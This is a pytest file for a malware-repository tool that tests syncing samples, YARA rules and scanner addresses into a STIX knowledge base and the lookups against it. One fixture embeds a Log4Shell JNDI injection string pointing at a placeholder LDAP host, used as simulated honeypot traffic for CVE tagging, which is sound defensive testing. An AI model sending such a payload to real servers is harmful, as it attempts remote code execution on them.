"""Knowledge-base links end to end: samples, signatures, live rules, hunts and
noise addresses synced into the STIX knowledge base (trawl kb sync), every
object checked against the OASIS schemas, the links following deletions, and
STIX patterns and indicators looked up against what trawl holds."""
import base64
import datetime
import json
import urllib.error
import urllib.parse
import urllib.request

import pytest

from test_stix import validate_stix

IDENTITY = "identity--0f3b7a8e-6d4c-5b1a-9e2f-7c6d5e4f3a21"
RULE = 'rule gloom { strings: $a = "gloom payload" condition: $a }\n'
ENTITIES = {"type": "bundle", "id": "bundle--5d0092c5-5f74-4287-9642-33f4c354e56d", "objects": [
    {"type": "intrusion-set", "spec_version": "2.1",
     "id": "intrusion-set--1c7b5b88-8ff7-4a4d-aa9d-feb398cd0061",
     "created": "2024-01-01T00:00:00.000Z", "modified": "2024-01-01T00:00:00.000Z",
     "name": "Murky Team", "aliases": ["GLOOMHAUL"]},
    {"type": "malware", "spec_version": "2.1", "id": "malware--0c7b5b88-8ff7-4a4d-aa9d-feb398cd0061",
     "created": "2024-01-01T00:00:00.000Z", "modified": "2024-01-01T00:00:00.000Z",
     "name": "Gloomhaul", "is_family": True},
    {"type": "indicator", "spec_version": "2.1", "id": "indicator--9c7b5b88-8ff7-4a4d-aa9d-feb398cd0061",
     "created": "2024-01-01T00:00:00.000Z", "modified": "2024-01-01T00:00:00.000Z",
     "name": "gloom yara", "pattern": RULE, "pattern_type": "yara",
     "valid_from": "2024-01-01T00:00:00Z"},
]}
YARA_INDICATOR = ENTITIES["objects"][2]["id"]
SCANNER = "203.0.113.7"


def log4j_event():
    ua = "${jndi:ldap://203.0.113.9:1389/a}"
    raw = "GET / HTTP/1.1\r\nHost: 198.51.100.1\r\nUser-Agent: %s\r\n\r\n" % ua
    return {"time": datetime.datetime.now(datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%fZ"),
            "sensor": "kb-sensor", "src_ip": SCANNER, "src_port": 40000, "dst_ip": "198.51.100.1",
            "dst_port": 80, "transport": "tcp", "proto": "http", "handshake": True,
            "fields": {"http_method": "GET", "http_path": "/", "http_version": "HTTP/1.1",
                       "http_host": "198.51.100.1", "http_user_agent": ua},
            "payload_b64": base64.b64encode(raw.encode()).decode()}


@pytest.fixture
def linked(trawl, tmp_path):
    """Two Gloomhaul samples and one other, a live rule set and a hunt that
    match the two, a knowledge base naming the family, one noisy address."""
    (tmp_path / "a.bin").write_bytes(b"hello gloom payload one\x00\x01")
    (tmp_path / "b.bin").write_bytes(b"hello gloom payload two\x00\x02")
    (tmp_path / "c.bin").write_bytes(b"another thing entirely")
    (tmp_path / "r.yar").write_text(RULE)
    (tmp_path / "ent.json").write_text(json.dumps(ENTITIES))
    (tmp_path / "ev.jsonl").write_text(json.dumps(log4j_event()) + "\n")
    trawl.run("add", "--signature", "Gloomhaul", tmp_path / "a.bin", tmp_path / "b.bin", check=0)
    trawl.run("add", tmp_path / "c.bin", check=0)
    trawl.run("rules", "add", "gloomlive", tmp_path / "r.yar", check=0)
    trawl.run("hunt", tmp_path / "r.yar", check=0)
    trawl.run("stix", "import", tmp_path / "ent.json", check=0)
    trawl.run("noise", "import", tmp_path / "ev.jsonl", check=0)
    trawl.run("rules", "add", "--retro", "--replace", "gloomlive", tmp_path / "r.yar", check=0)
    return trawl


def sync(trawl):
    return json.loads(trawl.run("kb", "sync", "--json", check=0).stdout)


def export(trawl):
    b = json.loads(trawl.run("stix", "export", check=0).stdout)
    for o in b["objects"]:
        validate_stix(o)
    return {o["id"]: o for o in b["objects"]}


def no_dangling(objs):
    for o in objs.values():
        for k, v in o.items():
            refs = v if k.endswith("_refs") else [v] if k.endswith("_ref") else []
            for r in refs:
                assert r in objs, "%s.%s names %s, which the knowledge base lacks" % (o["id"], k, r)


def of_type(objs, t):
    return [o for o in objs.values() if o["type"] == t]


def sha256_of(data):
    import hashlib
    return hashlib.sha256(data).hexdigest()


A = sha256_of(b"hello gloom payload one\x00\x01")
B = sha256_of(b"hello gloom payload two\x00\x02")
C = sha256_of(b"another thing entirely")


def test_sync_links_everything(linked):
    st = sync(linked)
    assert st["added"] == st["objects"] and st["objects"] > 20, st
    objs = export(linked)
    no_dangling(objs)
    files = {o["hashes"]["SHA-256"]: o for o in of_type(objs, "file")}
    assert set(files) == {A, B, C}
    fa = files[A]
    assert set(fa["hashes"]) >= {"MD5", "SHA-1", "SHA-256", "SSDEEP", "SHA3-384"}
    assert fa["name"] == "a.bin" and fa["size"] == 25
    # The signature is trawl's malware object, linked to the family and the
    # intrusion set (by alias, case aside) that the imported bundle holds.
    mine = [m for m in of_type(objs, "malware") if m.get("created_by_ref") == IDENTITY]
    assert len(mine) == 1 and mine[0]["name"] == "Gloomhaul"
    assert sorted(mine[0]["sample_refs"]) == sorted([files[A]["id"], files[B]["id"]])
    rels = {(r["source_ref"], r["relationship_type"], r["target_ref"])
            for r in of_type(objs, "relationship")}
    assert (ENTITIES["objects"][0]["id"], "uses", mine[0]["id"]) in rels
    assert (mine[0]["id"], "related-to", ENTITIES["objects"][1]["id"]) in rels
    # The live rule set and the hunt are YARA indicators of the family, with
    # a sighting per sample they matched.
    inds = [i for i in of_type(objs, "indicator") if i.get("created_by_ref") == IDENTITY]
    live = [i for i in inds if i["name"] == "gloomlive"]
    assert len(live) == 1 and live[0]["pattern_type"] == "yara" and "gloom payload" in live[0]["pattern"]
    assert any(i["name"].startswith("hunt 1") for i in inds)
    for ind in inds:
        assert (ind["id"], "indicates", mine[0]["id"]) in rels
        seen = set()
        for s in of_type(objs, "sighting"):
            if s["sighting_of_ref"] == ind["id"]:
                od = objs[s["observed_data_refs"][0]]
                seen.update(objs[r]["hashes"]["SHA-256"] for r in od["object_refs"])
        assert seen == {A, B}, ind["name"]
    # The noisy address, its tag's CVE and the sensor that saw it.
    ip = [o for o in of_type(objs, "ipv4-addr") if o["value"] == SCANNER]
    assert len(ip) == 1
    vul = {v["name"]: v for v in of_type(objs, "vulnerability")}
    assert "CVE-2021-44228" in vul
    s = [s for s in of_type(objs, "sighting") if s["sighting_of_ref"] == vul["CVE-2021-44228"]["id"]]
    assert len(s) == 1
    assert objs[s[0]["observed_data_refs"][0]]["object_refs"] == [ip[0]["id"]]
    assert objs[s[0]["where_sighted_refs"][0]]["name"] == "kb-sensor"
    # A second sync finds everything held as it is.
    st = sync(linked)
    assert st["added"] == st["updated"] == st["retired"] == 0 and st["unchanged"] == st["objects"]


def test_sample_with_a_tlsh_digest_links(trawl, tmp_path):
    """Real samples carry TLSH digests ("T1" + 70 hex); STIX's TLSH hash is the
    70-hex digest. One such sample used to fail the whole sync."""
    import random
    rnd = random.Random(7)
    data = bytes(rnd.getrandbits(8) for _ in range(4096))
    (tmp_path / "t.bin").write_bytes(data)
    trawl.run("add", tmp_path / "t.bin", check=0)
    tlsh = json.loads(trawl.run("info", sha256_of(data), "--json", check=0).stdout)["tlsh"]
    assert tlsh.startswith("T1") and len(tlsh) == 72, tlsh
    st = sync(trawl)
    assert st["added"] == st["objects"] >= 1, st
    files = [o for o in export(trawl).values() if o["type"] == "file"]
    assert len(files) == 1 and files[0]["hashes"]["TLSH"] == tlsh[2:]
    # The pattern lookup builds the same SCO, so it finds the sample by it.
    pat = "[file:hashes.'SHA-256' = '%s' AND file:hashes.TLSH = '%s']" % (sha256_of(data), tlsh[2:])
    hit = json.loads(trawl.run("kb", "match", pat, "--json", check=0).stdout)
    assert [s["file_id"] for s in hit["samples"]] == [files[0]["id"]]


def test_deleted_sample_is_marked_not_dangling(linked):
    sync(linked)
    before = export(linked)
    fa = [o for o in of_type(before, "file") if o["hashes"]["SHA-256"] == A][0]
    linked.run("rm", A, check=0)
    st = sync(linked)
    assert st["retired"] >= 3 and st["updated"] >= 1, st
    objs = export(linked)
    no_dangling(objs)
    assert objs[fa["id"]].get("x_trawl_removed") is True
    mine = [m for m in of_type(objs, "malware") if m.get("created_by_ref") == IDENTITY][0]
    assert fa["id"] not in mine["sample_refs"] and len(mine["sample_refs"]) == 1
    for s in of_type(objs, "sighting"):
        od = objs[s["observed_data_refs"][0]]
        if fa["id"] in od["object_refs"]:
            assert s.get("revoked") is True and od.get("revoked") is True
    assert sync(linked)["retired"] == 0
    # A knowledge-base object deleted by hand comes back with the next sync.
    linked.run("stix", "rm", mine["id"], check=0)
    assert sync(linked)["added"] == 1


def test_match_patterns(linked):
    sync(linked)
    p = linked.run("kb", "match", "[file:hashes.'SHA-256' = '%s']" % A, "--json", check=0)
    res = json.loads(p.stdout)
    assert [s["sha256"] for s in res["samples"]] == [A] and res["ips"] == []
    # The whole pattern must hold, not just the term used for the lookup.
    p = linked.run("kb", "match", "[file:hashes.'SHA-256' = '%s' AND file:size = 3]" % A,
                   "--json", check=0)
    assert json.loads(p.stdout)["samples"] == []
    p = linked.run("kb", "match", "[ipv4-addr:value ISSUBSET '203.0.113.0/24']", "--json", check=0)
    assert [i["ip"] for i in json.loads(p.stdout)["ips"]] == [SCANNER]
    p = linked.run("kb", "match", "[ipv4-addr:value = '198.51.100.200']", "--json", check=0)
    assert json.loads(p.stdout)["ips"] == []
    p = linked.run("kb", "match", "[file:name = 'a.bin']", check=1)
    assert "names no file" in p.stderr
    p = linked.run("kb", "match", "[file:hashes.MD5 = ", check=1)
    assert "pattern" in p.stderr
    # A YARA indicator runs as a retrohunt.
    p = linked.run("kb", "match", YARA_INDICATOR, "--json", check=0)
    res = json.loads(p.stdout)
    assert sorted(s["sha256"] for s in res["samples"]) == sorted([A, B]) and res["hunt"] > 0
    # The next sync records that hunt as sightings of the stored indicator,
    # not as an indicator of its own.
    sync(linked)
    objs = export(linked)
    no_dangling(objs)
    assert not [i for i in of_type(objs, "indicator") if YARA_INDICATOR in i.get("name", "")]
    seen = set()
    for s in of_type(objs, "sighting"):
        if s["sighting_of_ref"] == YARA_INDICATOR:
            od = objs[s["observed_data_refs"][0]]
            seen.update(objs[r]["hashes"]["SHA-256"] for r in od["object_refs"])
    assert seen == {A, B}


def test_api(linked, keys):
    from conftest import Server
    srv = Server(linked)
    try:
        def call(method, path, body=None, key=None):
            req = urllib.request.Request(srv.url + path, method=method,
                                         data=json.dumps(body).encode() if body is not None else None)
            if body is not None:
                req.add_header("Content-Type", "application/json")
            if key:
                req.add_header("Authorization", "Bearer " + keys[key])
            try:
                with urllib.request.urlopen(req, timeout=60) as r:
                    return r.status, json.loads(r.read())
            except urllib.error.HTTPError as e:
                return e.code, json.loads(e.read() or b"{}")

        assert call("POST", "/api/kb/sync", {}, "reader")[0] == 403
        code, st = call("POST", "/api/kb/sync", {}, "analyst")
        assert code == 200 and st["added"] == st["objects"] > 20
        code, st = call("POST", "/api/kb/sync", {}, "analyst")
        assert code == 200 and st["added"] == 0 and st["unchanged"] == st["objects"]
        # {"full": true}: a full pass, as trawl kb sync --full (finds nothing to store).
        code, st = call("POST", "/api/kb/sync", {"full": True}, "analyst")
        assert code == 200 and st["full"] is True and st["objects"] > 20, st
        assert st["added"] == st["updated"] == st["retired"] == 0 and st["unchanged"] == st["objects"]
        code, st = call("POST", "/api/kb/sync", {"full": False}, "analyst")
        assert code == 200 and st["full"] is False, st
        assert call("POST", "/api/kb/sync", {"full": "yes"}, "analyst")[0] == 400
        q = urllib.parse.quote("[file:hashes.MD5 = '%s']" % ("0" * 32))
        code, res = call("GET", "/api/kb/match?pattern=" + q, key="reader")
        assert code == 200 and res["samples"] == []
        q = urllib.parse.quote("[file:hashes.'SHA-256' = '%s']" % B)
        code, res = call("GET", "/api/kb/match?pattern=" + q, key="reader")
        assert code == 200 and [s["sha256"] for s in res["samples"]] == [B]
        code, res = call("POST", "/api/kb/match", {"pattern": "[ipv4-addr:value = '%s']" % SCANNER},
                         "analyst")
        assert code == 200 and res["ips"][0]["classification"] == "malicious"
        code, res = call("POST", "/api/kb/match", {"indicator": YARA_INDICATOR}, "analyst")
        assert code == 202 and res["hunt"] > 0
        code, res = call("GET", "/api/kb/match?pattern=" + urllib.parse.quote("[file:name = 'x']"),
                         key="reader")
        assert code == 400 and "names no file" in res.get("error", json.dumps(res))
    finally:
        srv.stop()


def test_builtin_taxii_collections_of_samples_and_noise(linked, keys):
    """After a sync, TAXII clients find trawl's samples and sensor sources in
    the built-in read-only "Samples" and "Noise" collections."""
    from conftest import Server
    sync(linked)
    srv = Server(linked)
    try:
        def get(path):
            req = urllib.request.Request(srv.url + path, headers={
                "Accept": "application/taxii+json;version=2.1",
                "Authorization": "Bearer " + keys["reader"]})
            with urllib.request.urlopen(req, timeout=60) as r:
                return json.loads(r.read())
        cols = {c["title"]: c for c in get("/taxii2/kb/collections/")["collections"]}
        assert cols["Samples"]["can_read"] and not cols["Samples"]["can_write"]
        files = get("/taxii2/kb/collections/%s/objects/" % cols["Samples"]["id"])["objects"]
        assert {o["type"] for o in files} == {"file"}
        assert B in {o["hashes"]["SHA-256"] for o in files}
        for o in files:
            validate_stix(o)
        ips = get("/taxii2/kb/collections/%s/objects/" % cols["Noise"]["id"])["objects"]
        assert {o["type"] for o in ips} <= {"ipv4-addr", "ipv6-addr"}
        assert SCANNER in {o["value"] for o in ips}
    finally:
        srv.stop()


def test_server_keeps_the_links_current(trawl, keys, tmp_path):
    """trawl serve links new data by itself after it changed (--kb-sync), with
    no sync asked for: an upload with a signature becomes a file object and a
    malware family naming it."""
    import hashlib
    import os
    import time
    import requests
    from conftest import Server
    srv = Server(trawl, "--kb-sync", "1")
    try:
        h = {"Authorization": "Bearer " + keys["analyst"]}
        data = b"auto-linked sample " + os.urandom(64)
        sha = hashlib.sha256(data).hexdigest()
        r = requests.post(srv.url + "/api/samples", headers=h, data={"signature": "Autolinker"},
                          files={"file": ("auto.bin", data)}, timeout=30)
        assert r.status_code in (200, 201), r.text
        deadline = time.time() + 90
        objs = []
        while time.time() < deadline:
            time.sleep(0.5)
            b = requests.get(srv.url + "/api/stix/export", headers=h, timeout=30,
                             params={"type": "file,malware"}).json()
            objs = b.get("objects", [])
            files = {o["id"]: o for o in objs if o["type"] == "file"
                     and o.get("hashes", {}).get("SHA-256") == sha}
            fams = [o for o in objs if o["type"] == "malware" and o.get("name") == "Autolinker"]
            if files and fams and set(fams[0].get("sample_refs", [])) & set(files):
                break
        else:
            raise AssertionError("the upload was never linked: %s" % objs)
        for o in objs:
            validate_stix(o)
    finally:
        srv.stop()
    assert "kb sync:" in srv.proc.stderr.read()
